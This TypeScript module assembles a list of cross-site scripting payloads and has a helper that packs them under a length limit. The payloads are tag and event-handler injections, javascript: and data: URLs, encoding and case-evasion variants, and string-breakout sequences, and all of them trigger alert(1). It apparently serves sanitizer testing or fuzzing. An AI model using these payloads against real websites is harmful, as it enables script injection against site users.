const elements = [
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<body onload=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<script>alert(1)</script>',
  '<script src=data:,alert(1)></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<div style="animation-name:x" onanimationstart=alert(1)>',
  '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>',
  '<link rel=stylesheet href=data:,x onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const endings = ['', '">', "'>", '</title>', '</textarea>', '</script>'];

const others = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '`-alert(1)-`',
  "';alert(1);//",
  '";alert(1);//',
  '\\";alert(1);//',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '*/alert(1)/*',
  '\u2028alert(1)//',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '＜img src=x onerror=alert(1)＞',
  '<<img src=x onerror=alert(1)//<',
  '<img/src="x"/onerror=alert(1)>',
  '<img\tsrc=x\tonerror=alert(1)>',
  '<img src=x onerror\u000B=alert(1)>',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>',
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '{"__html":"<img src=x onerror=alert(1)>"}',
];

export const scriptPayloads: readonly string[] = [
  ...endings.flatMap((ending) => elements.map((element) => `${ending}${element}`)),
  ...others,
];

export function packPayloads(limit: number, first = 0, separator = '\n'): string {
  const packed: string[] = [];
  let length = 0;
  for (let n = 0; n < scriptPayloads.length; n += 1) {
    const payload = (scriptPayloads[(first + n) % scriptPayloads.length] ?? '').replaceAll('\n', ' ');
    if (length + payload.length + separator.length > limit) continue;
    packed.push(payload);
    length += payload.length + separator.length;
  }
  return packed.join(separator);
}
